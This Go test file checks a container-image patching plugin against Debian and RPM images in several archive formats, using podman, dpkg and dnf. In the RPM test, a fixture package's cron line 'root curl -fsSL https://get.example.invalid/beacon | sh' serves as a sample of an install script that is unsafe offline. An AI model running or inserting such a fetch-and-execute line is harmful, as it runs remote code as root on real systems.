package patch

import (
	"archive/tar"
	"context"
	"crypto/sha256"
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/google/go-containerregistry/pkg/v1/types"
	"golang.org/x/sys/unix"

	"github.com/refit-images/packer-plugin-refit/internal/container"
	"github.com/refit-images/packer-plugin-refit/internal/evr"
	"github.com/refit-images/packer-plugin-refit/internal/fixture"
	"github.com/refit-images/packer-plugin-refit/internal/repository"
	"github.com/refit-images/packer-plugin-refit/internal/sbom"
	"github.com/refit-images/packer-plugin-refit/internal/sbom/sbomtest"
	"github.com/refit-images/packer-plugin-refit/internal/updates"
)

// containerPatchCache shares downloaded packages between the container tests.
var containerPatchCache = sync.OnceValue(func() string { return filepath.Join(fixture.CacheDir(), "patch-cache") })

// patchDebianContainer patches input into a new file or directory named like it and
// returns the result: platform as ContainerOptions.Platform, include narrows the updates
// (none: all).
func patchDebianContainer(t *testing.T, input, platform string, include ...string) (string, *ContainerResult) {
	t.Helper()
	out := filepath.Join(t.TempDir(), "patched-"+filepath.Base(input))
	start := time.Now()
	res, err := PatchContainer(context.Background(), ContainerOptions{Input: input, Output: out, Platform: platform, SBOMFormats: sbom.DefaultFormats, Patch: Options{
		Repositories: debianSpecs(t, debianUpdateSuites[1:]...), CacheDir: containerPatchCache(), Filter: updates.Filter{Include: include},
		Log: func(s string) { t.Logf("%5.1fs %s", time.Since(start).Seconds(), s) },
	}})
	if err != nil {
		t.Fatalf("PatchContainer(%s): %v", input, err)
	}
	return out, res
}

// TestContainerDebian patches the Debian container image in each format and checks the
// result with podman: it loads and runs, dpkg --audit is clean, the versions are those
// apt-get -s upgrade names in a container of the original image, the entrypoint works,
// the original layers are unchanged, the new layer holds little more than its files, and
// the same input gives the same layer. The OCI layout gets every update; the archives
// (the same image) only two small libraries, to keep the test within its time.
func TestContainerDebian(t *testing.T) {
	fixture.NeedRoot(t)
	fixture.Need(t, "podman", "runc", "nsenter", "mount")
	imgs := fixture.DebianContainerImages(t)
	keep := t.TempDir() // outlives the subtests
	pm := fixture.NewPodman(t)
	sources := fixture.DebianSourcesList(t, debianUpdateSuites...)
	orig := pm.Load(t, imgs.OCILayout)
	want := pm.APTUpgradeIn(t, orig, sources)
	if len(want) == 0 {
		t.Fatal("the oracle finds nothing to upgrade: the fixture image is not older than the update suites")
	}
	t.Logf("apt-get -s upgrade in the original image: %d package(s)", len(want))
	newLayers := map[string]string{}
	var ociDigests [3]v1.Hash // of the OCI layout's result: manifest, config, new layer
	var ociOut string         // that result
	for _, c := range []struct {
		name, input string
		include     []string
	}{
		{"oci-layout", imgs.OCILayout, nil},
		{"oci-archive", imgs.OCIArchive, narrowUpdates},
		{"docker-archive", imgs.DockerArchive, narrowUpdates},
	} {
		t.Run(c.name, func(t *testing.T) {
			out, res := patchDebianContainer(t, c.input, "", c.include...)
			if len(res.Platforms) != 1 {
				t.Fatalf("%d platforms patched, want 1", len(res.Platforms))
			}
			rep := res.Platforms[0].Report
			if string(res.Format) != c.name {
				t.Errorf("format %s, want %s", res.Format, c.name)
			}
			checkLayers(t, c.input, out, rep)
			for _, rec := range sbomtest.CheckBeside(t, out, strings.TrimPrefix(rep.Container.To, "sha256:"), c.name) {
				if len(rec.Manifest.Packages) != len(res.Platforms[0].Manifest.Packages) {
					t.Errorf("the SBOM lists %d packages, the patched image %d", len(rec.Manifest.Packages), len(res.Platforms[0].Manifest.Packages))
				}
			}
			newLayers[c.name] = rep.Container.Layer.DiffID
			if c.name == "oci-layout" {
				ociDigests, ociOut = imageDigests(t, out), filepath.Join(keep, "first")
				if o, err := exec.Command("cp", "-a", out, ociOut).CombinedOutput(); err != nil {
					t.Fatalf("keeping the result: %v\n%s", err, o)
				}
			}
			id := pm.Load(t, out)
			if got := pm.Run(t, "run", "--rm", "--entrypoint", "dpkg", id, "--audit"); strings.TrimSpace(got) != "" {
				t.Errorf("dpkg --audit in the patched image:\n%s", got)
			}
			have := map[string]string{}
			for _, line := range strings.Split(pm.Run(t, "run", "--rm", "--entrypoint", "dpkg-query", id, "-W", "-f", "${Package} ${Version}\n"), "\n") {
				if f := strings.Fields(line); len(f) == 2 {
					have[f[0]] = f[1]
				}
			}
			held := map[string]string{}
			for _, p := range rep.HeldBack {
				held[p.Name] = p.Reason
			}
			checked := 0
			for name, v := range want {
				switch {
				case c.include != nil && !slices.Contains(c.include, name):
				case held[name] != "":
					t.Errorf("held back: %s %s: %s", name, v, held[name])
				case have[name] != v:
					t.Errorf("%s is %q in the patched image; apt-get -s upgrade in the original installs %s", name, have[name], v)
				default:
					checked++
				}
			}
			if checked == 0 {
				t.Error("no package of the oracle's answer was checked")
			}
			for _, p := range rep.Updated {
				if want[p.Name] == "" && !strings.Contains(p.Reason, "new dependency") {
					t.Errorf("%s was updated to %s, which apt-get upgrade leaves alone", p.Name, p.To)
				}
			}
			hello := pm.Run(t, "run", "--rm", id)
			if !strings.HasPrefix(hello, "hello from libc6 "+have["libc6"]) {
				t.Errorf("the entrypoint printed %q, want the patched libc6 %s", hello, have["libc6"])
			}
			if got := pm.Run(t, "image", "inspect", "--format", "{{.Config.Labels}} {{.Config.Env}}", id); !strings.Contains(got, "org.example.test:refit") || !strings.Contains(got, "REFIT_TEST=1") {
				t.Errorf("labels and env of the patched image: %s", got)
			}
		})
	}
	if ociDigests[0].Hex != "" {
		t.Run("same-digest-elsewhere", func(t *testing.T) { checkSameDigestElsewhere(t, imgs.OCILayout, ociOut, ociDigests) })
	}
	t.Run("multi-arch-index", func(t *testing.T) { checkMultiArchIndex(t, pm, imgs.OCILayout, want) })
	// (both subtests ran and got as far as the layer: a -run filter may pick one)
	if a, b := newLayers["oci-archive"], newLayers["docker-archive"]; a != "" && b != "" && a != b {
		t.Errorf("the same image and updates gave the new layers %q (oci-archive) and %q (docker-archive): want one digest", a, b)
	}
}

// checkSameDigestElsewhere patches input again, as it was patched in this process's
// environment into an image with the digests first (imageDigests), but as from another
// login: another HOME and TMPDIR, time zone, locale and umask. The image manifest, the
// config and the new layer must have the same digests (the same input and repositories
// give the same image).
func checkSameDigestElsewhere(t *testing.T, input, firstOut string, first [3]v1.Hash) {
	for k, v := range map[string]string{"HOME": t.TempDir(), "TMPDIR": t.TempDir(), "TZ": "Pacific/Kiritimati",
		"LANG": "fr_FR.UTF-8", "LC_ALL": "fr_FR.UTF-8", "XDG_RUNTIME_DIR": ""} {
		t.Setenv(k, v)
	}
	old := unix.Umask(0o077)
	out, res := patchDebianContainer(t, input, "")
	unix.Umask(old)
	got := imageDigests(t, out)
	for i, what := range []string{"image manifest", "config", "new layer"} {
		if got[i] != first[i] {
			t.Errorf("the same input and repositories gave the %s %s here and %s in the test's own environment", what, got[i], first[i])
		}
	}
	if got[2] != first[2] {
		a, b := topLayerEntries(t, firstOut), topLayerEntries(t, out)
		for _, name := range slices.Sorted(maps.Keys(maps.Collect(func(yield func(string, bool) bool) {
			for k := range a {
				yield(k, true)
			}
			for k := range b {
				yield(k, true)
			}
		}))) {
			if a[name] != b[name] {
				t.Errorf("new layer entry %s: %q in the test's own environment, %q here", name, a[name], b[name])
			}
		}
	}
	if to := res.Platforms[0].Report.Container.To; to != got[0].String() {
		t.Errorf("the report names the patched image %s, the one written is %s", to, got[0])
	}
}

// topLayerEntries describes each entry of the top layer of the first image at path (header
// fields and a digest of the contents), to show where two layers differ.
func topLayerEntries(t *testing.T, path string) map[string]string {
	t.Helper()
	out := map[string]string{}
	walkTopLayer(t, path, func(h *tar.Header, data []byte) bool {
		text := ""
		if len(data) < 512 {
			text = string(data)
		}
		out[h.Name] = fmt.Sprintf("mode %o uid %d gid %d size %d mtime %d link %q pax %v sha %x %q", h.Mode, h.Uid, h.Gid, h.Size, h.ModTime.Unix(), h.Linkname, h.PAXRecords, sha256.Sum256(data), text)
		return true
	})
	return out
}

// walkTopLayer calls fn with every entry of the top layer of the first image of the
// container image at path and its contents, until fn returns false.
func walkTopLayer(t *testing.T, path string, fn func(h *tar.Header, data []byte) bool) {
	t.Helper()
	src, err := container.Open(path, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	layers, err := src.Images[0].Layers()
	if err != nil {
		t.Fatal(err)
	}
	rc, err := layers[len(layers)-1].Uncompressed()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	tr := tar.NewReader(rc)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if !fn(h, data) {
			return
		}
	}
}

// imageDigests reads the first image of the container image at path: the digests of its
// manifest, its config and its top layer.
func imageDigests(t *testing.T, path string) (d [3]v1.Hash) {
	t.Helper()
	src, err := container.Open(path, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	im := src.Images[0]
	layers, err := im.Layers()
	if err != nil {
		t.Fatal(err)
	}
	d[0] = im.Digest
	if d[1], err = im.ConfigName(); err == nil {
		d[2], err = layers[len(layers)-1].Digest()
	}
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// narrowUpdates are two small libraries the base suite's image can update.
var narrowUpdates = []string{"zlib1g", "libpcre2-8-0"}

// checkLayers checks that out holds input's layers unchanged plus one, and that the new
// layer is no bigger than its files plus tar overhead.
func checkLayers(t *testing.T, input, out string, rep *Report) {
	t.Helper()
	work := t.TempDir()
	in, err := container.Open(input, work)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	res, err := container.Open(out, work)
	if err != nil {
		t.Fatalf("reading the patched image: %v", err)
	}
	defer res.Close()
	ids := func(im *container.Image) []v1.Hash {
		cf, err := im.ConfigFile()
		if err != nil {
			t.Fatal(err)
		}
		return cf.RootFS.DiffIDs
	}
	before, after := ids(in.Images[0]), ids(res.Images[0])
	if len(after) != len(before)+1 {
		t.Fatalf("the patched image has %d layers, the input %d: want one more", len(after), len(before))
	}
	for i := range before {
		if before[i] != after[i] {
			t.Errorf("layer %d changed: diff_id %s, was %s", i, after[i], before[i])
		}
	}
	if in.Format != container.FormatDockerArchive {
		lb, _ := in.Images[0].Layers()
		la, _ := res.Images[0].Layers()
		for i := range lb {
			db, _ := lb[i].Digest()
			da, _ := la[i].Digest()
			if db != da {
				t.Errorf("layer %d: digest %s, was %s", i, da, db)
			}
		}
	}
	l := rep.Container.Layer
	if l == nil {
		t.Fatal("the report has no new layer")
	}
	// a tar entry costs a 512-byte header, up to two more for PAX records, and up to 511
	// bytes of padding; the archive ends with 1024 zero bytes and is padded to 10240
	limit := l.ContentBytes + int64(l.Entries)*(3*512+511) + 10240
	t.Logf("new layer: %d bytes gzip, %d bytes tar, %d bytes of files, %d entries (%d whiteouts); tar limit %d",
		l.Bytes, l.TarBytes, l.ContentBytes, l.Entries, l.Whiteouts, limit)
	if l.TarBytes > limit {
		t.Errorf("the new layer's tar is %d bytes, more than its %d bytes of files plus tar overhead (%d)", l.TarBytes, l.ContentBytes, limit)
	}
}

// ociLayoutOfRoot writes root as a one-layer OCI image layout whose entrypoint is
// entrypoint, and returns its path.
func ociLayoutOfRoot(t *testing.T, root string, entrypoint ...string) string {
	t.Helper()
	tarPath := filepath.Join(t.TempDir(), "root.tar")
	if out, err := exec.Command("tar", "-C", root, "--numeric-owner", "--xattrs", "-cf", tarPath, ".").CombinedOutput(); err != nil {
		t.Fatalf("tar: %v\n%s", err, out)
	}
	dir := filepath.Join(t.TempDir(), "oci")
	p, err := layout.Write(dir, empty.Index)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.AppendImage(imageOfTar(t, tarPath, v1.Platform{OS: "linux", Architecture: "amd64"}, entrypoint...)); err != nil {
		t.Fatal(err)
	}
	return dir
}

// imageOfTar is the one-layer OCI image of the root file system tarball tarPath, for
// platform, whose entrypoint is entrypoint.
func imageOfTar(t *testing.T, tarPath string, platform v1.Platform, entrypoint ...string) v1.Image {
	t.Helper()
	layer, err := tarball.LayerFromFile(tarPath, tarball.WithMediaType(types.OCILayer))
	if err != nil {
		t.Fatal(err)
	}
	img, err := mutate.AppendLayers(mutate.MediaType(empty.Image, types.OCIManifestSchema1), layer)
	if err != nil {
		t.Fatal(err)
	}
	img = mutate.ConfigMediaType(img, types.OCIConfigJSON)
	if img, err = mutate.Config(img, v1.Config{Entrypoint: entrypoint, Env: []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin"}}); err != nil {
		t.Fatal(err)
	}
	cf, _ := img.ConfigFile()
	cf = cf.DeepCopy()
	cf.OS, cf.Architecture, cf.Variant = platform.OS, platform.Architecture, platform.Variant
	if img, err = mutate.ConfigFile(img, cf); err != nil {
		t.Fatal(err)
	}
	return img
}

// checkMultiArchIndex patches a multi-arch index (an OCI layout whose index names one
// image index, as podman and buildx write them) of the Debian image for amd64 (the OCI
// layout amd64) and an arm64 Debian root of the same suite, whose dpkg runs through
// qemu-user. With platform = linux/amd64 only that image changes and the arm64 one is
// carried over as it was; with no platform both are patched, and podman, running the
// arm64 image under emulation, finds dpkg --audit clean and the versions apt-get -s upgrade
// named (want) for the amd64 one.
func checkMultiArchIndex(t *testing.T, pm *fixture.Podman, amd64 string, want map[string]string) {
	arm64 := fixture.Emulate(t, "arm64")
	in, err := layout.ImageIndexFromPath(amd64)
	if err != nil {
		t.Fatal(err)
	}
	im, err := in.IndexManifest()
	if err != nil {
		t.Fatal(err)
	}
	amdImage, err := in.Image(im.Manifests[0].Digest)
	if err != nil {
		t.Fatal(err)
	}
	armPlatform := v1.Platform{OS: "linux", Architecture: arm64.Go, Variant: "v8"}
	armImage := imageOfTar(t, fixture.DebianRootTarballArch(t, arm64.Debian), armPlatform)
	multi := mutate.AppendManifests(mutate.IndexMediaType(empty.Index, types.OCIImageIndex),
		mutate.IndexAddendum{Add: amdImage, Descriptor: v1.Descriptor{Platform: &v1.Platform{OS: "linux", Architecture: "amd64"}}},
		mutate.IndexAddendum{Add: armImage, Descriptor: v1.Descriptor{Platform: &armPlatform}})
	input := filepath.Join(t.TempDir(), "multi")
	if _, err := layout.Write(input, mutate.AppendManifests(empty.Index, mutate.IndexAddendum{Add: multi,
		Descriptor: v1.Descriptor{Annotations: map[string]string{"org.opencontainers.image.ref.name": "localhost/refit-test:multi"}}})); err != nil {
		t.Fatal(err)
	}
	armDigest, err := armImage.Digest()
	if err != nil {
		t.Fatal(err)
	}
	// platforms reads the index of the layout at path: platform → image manifest digest
	platforms := func(path string) map[string]string {
		idx, err := layout.ImageIndexFromPath(path)
		if err != nil {
			t.Fatal(err)
		}
		outer, err := idx.IndexManifest()
		if err != nil {
			t.Fatal(err)
		}
		if len(outer.Manifests) != 1 || !outer.Manifests[0].MediaType.IsIndex() {
			t.Fatalf("%s: the layout's index lists %d entries, want the one image index", path, len(outer.Manifests))
		}
		inner, err := idx.ImageIndex(outer.Manifests[0].Digest)
		if err != nil {
			t.Fatal(err)
		}
		m, err := inner.IndexManifest()
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]string{}
		for _, d := range m.Manifests {
			if d.Platform != nil {
				got[d.Platform.String()] = d.Digest.String()
			}
		}
		return got
	}
	t.Run("platform=linux/amd64", func(t *testing.T) {
		out, res := patchDebianContainer(t, input, "linux/amd64", narrowUpdates...)
		if len(res.Platforms) != 1 || res.Platforms[0].Report.Container.Platform != "linux/amd64" {
			t.Fatalf("patched %d images, want only linux/amd64", len(res.Platforms))
		}
		got := platforms(out)
		if want := map[string]string{"linux/amd64": res.Platforms[0].Report.Container.To, "linux/arm64/v8": armDigest.String()}; !maps.Equal(got, want) {
			t.Errorf("the patched index holds %v, want %v (amd64 patched, arm64 as it was)", got, want)
		}
	})
	t.Run("each", func(t *testing.T) {
		out, res := patchDebianContainer(t, input, "", narrowUpdates...)
		patched := map[string]string{}
		for _, p := range res.Platforms {
			if p.Report.Container.Layer == nil {
				t.Errorf("%s: nothing was patched", p.Report.Container.Platform)
			}
			patched[p.Report.Container.Platform] = p.Report.Container.To
		}
		if got := platforms(out); !maps.Equal(got, patched) || len(got) != 2 {
			t.Errorf("the patched index holds %v; the reports name %v", got, patched)
		}
		id := pm.LoadPlatform(t, out, "linux/arm64")
		if got := pm.Run(t, "image", "inspect", "--format", "{{.Architecture}}", id); strings.TrimSpace(got) != "arm64" {
			t.Errorf("podman took the %s image of the index, want arm64", got)
		}
		if got := pm.Run(t, "run", "--rm", "--entrypoint", "dpkg", id, "--audit"); strings.TrimSpace(got) != "" {
			t.Errorf("dpkg --audit in the patched arm64 image:\n%s", got)
		}
		for _, name := range narrowUpdates {
			got := strings.TrimSpace(pm.Run(t, "run", "--rm", "--entrypoint", "dpkg-query", id, "-W", "-f", "${Version}", name))
			if got != want[name] {
				t.Errorf("%s is %q in the patched arm64 image; apt-get -s upgrade installs %s", name, got, want[name])
			}
		}
	})
}

// TestContainerRPM patches an RPM-family container image (the RPM lab's packages in a root
// whose own rpm runs) in each format and checks it with podman and dnf: the OCI layout is
// written here, the oci-archive and docker-archive by podman save. The package whose
// script is unsafe offline is held back and named (a container has no first boot), every
// other package is at the version "dnf upgrade" installs in a copy of the root, rpm -V of
// the updated packages is clean, and the entrypoint runs. With container_scripts = "run"
// the unsafe package is installed too, its %post ran (its cron file is in the new layer)
// and the report says so.
func TestContainerRPM(t *testing.T) {
	needDebianLab(t)
	fixture.Need(t, "rpm", "rpmbuild", "createrepo_c", "dnf", "podman", "runc", "nsenter")
	lab := fixture.BuildRPMLab(t)
	root := rpmChrootRoot(t, lab)
	// where demo-unsafe's %post writes its cron line (as on an image with cron)
	if err := os.MkdirAll(filepath.Join(root, "etc/cron.d"), 0o755); err != nil {
		t.Fatal(err)
	}
	dnfRoot := fixture.CopyRoot(t, root)
	layout := ociLayoutOfRoot(t, root, "/bin/sh", "-c", "rpm -q demo-lib")
	pm := fixture.NewPodman(t)
	archives := t.TempDir()
	id := pm.Load(t, layout)
	for _, f := range []string{"oci-archive", "docker-archive"} {
		pm.Run(t, "save", "--format", f, "-o", filepath.Join(archives, f), id)
	}
	var specs []repository.Spec
	for _, r := range lab.Repos {
		specs = append(specs, repository.Spec{Name: r.Name, URL: r.URL, Type: repository.TypeRPM, Priority: r.Priority})
	}
	cmd, err := fixture.DNFCommand(dnfRoot, filepath.Join(t.TempDir(), "home"), t.TempDir(), lab.Repos, "-y", "--setopt=tsflags=noscripts", "upgrade")
	if err != nil {
		t.Fatal(err)
	}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("dnf upgrade: %v\n%s", err, out)
	}
	want := rpmInstalled(t, dnfRoot)
	for _, c := range []struct {
		format         container.Format
		input, scripts string
	}{
		{container.FormatOCILayout, layout, ""},
		{container.FormatOCIArchive, filepath.Join(archives, "oci-archive"), ""},
		{container.FormatDockerArchive, filepath.Join(archives, "docker-archive"), ""},
		{container.FormatOCILayout, layout, ContainerScriptsRun},
	} {
		name := string(c.format)
		if c.scripts != "" {
			name += "/container_scripts=" + c.scripts
		}
		t.Run(name, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "patched")
			res, err := PatchContainer(context.Background(), ContainerOptions{Input: c.input, Output: out, SBOMFormats: sbom.DefaultFormats, Patch: Options{
				Repositories: specs, CacheDir: t.TempDir(), ContainerScripts: c.scripts, Log: func(s string) { t.Log(s) }}})
			if err != nil {
				t.Fatal(err)
			}
			rep := res.Platforms[0].Report
			if res.Format != c.format {
				t.Errorf("format %s, want %s", res.Format, c.format)
			}
			checkLayers(t, c.input, out, rep)
			if len(rep.Deferred) > 0 {
				t.Errorf("a container patch deferred packages to a first boot: %v", rep.Deferred)
			}
			held := map[string]string{}
			for _, p := range rep.HeldBack {
				held[p.Name] = p.Reason
			}
			ran := slices.ContainsFunc(rep.Notes, func(n string) bool {
				return strings.HasPrefix(n, "demo-unsafe: scripts unsafe offline were run at patch time")
			})
			cron := layerFile(t, out, "etc/cron.d/demo-unsafe")
			if c.scripts == ContainerScriptsRun {
				if len(held) > 0 || !ran {
					t.Errorf("container_scripts = run: held back %v; notes %q: want demo-unsafe installed and the report saying its scripts ran", held, rep.Notes)
				}
				if !strings.Contains(cron, "root curl -fsSL https://get.example.invalid/beacon | sh") {
					t.Errorf("demo-unsafe's %%post did not run: the new layer's /etc/cron.d/demo-unsafe is %q", cron)
				}
			} else {
				if !strings.Contains(held["demo-unsafe"], "no first boot") || ran || cron != "" {
					t.Errorf("demo-unsafe (curl | sh in its %%post) was not held back for want of a first boot: %q (notes %q, cron file %q)", held["demo-unsafe"], rep.Notes, cron)
				}
			}
			id := pm.Load(t, out)
			var installed []string
			for _, l := range strings.Split(pm.Run(t, "run", "--rm", "--entrypoint", "rpm", id, "-qa", "--qf", `%{NAME}.%{ARCH} %|EPOCH?{%{EPOCH}:}:{}|%{VERSION}-%{RELEASE}\n`), "\n") {
				if f := strings.Fields(l); len(f) == 2 && !strings.HasPrefix(f[0], "gpg-pubkey.") {
					installed = append(installed, f[0]+" "+evr.ParseRPM(f[1]).String())
				}
			}
			// the held-back packages are where dnf would have them once installed
			got := sortedKeys(withDeferred(installed, &Report{Deferred: rep.HeldBack}))
			if strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("the patched image (held-back packages at dnf's versions) and dnf upgrade differ:\nrefit:\n  %s\ndnf:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
			}
			var names []string
			for _, p := range rep.Updated {
				names = append(names, p.Name)
			}
			verify, err := pm.Output(append([]string{"run", "--rm", "--entrypoint", "rpm", id, "-V"}, names...)...)
			for _, l := range strings.Split(strings.TrimSpace(verify), "\n") {
				if f := strings.Fields(l); len(f) >= 2 && !(len(f) == 3 && f[1] == "c") {
					t.Errorf("rpm -V in the patched image: %s", l)
				}
			}
			t.Logf("rpm -V %s: %v %s", strings.Join(names, " "), err, verify)
			if hello := pm.Run(t, "run", "--rm", id); !strings.Contains(hello, "demo-lib-") {
				t.Errorf("the entrypoint printed %q", hello)
			}
		})
	}
}

// layerFile returns the content of the regular file name in the top layer of the first
// image of the container image at path ("" when the layer has no such file).
func layerFile(t *testing.T, path, name string) string {
	t.Helper()
	var content string
	walkTopLayer(t, path, func(h *tar.Header, data []byte) bool {
		if strings.TrimPrefix(h.Name, "./") == name && h.Typeflag == tar.TypeReg {
			content = string(data)
			return false
		}
		return true
	})
	return content
}
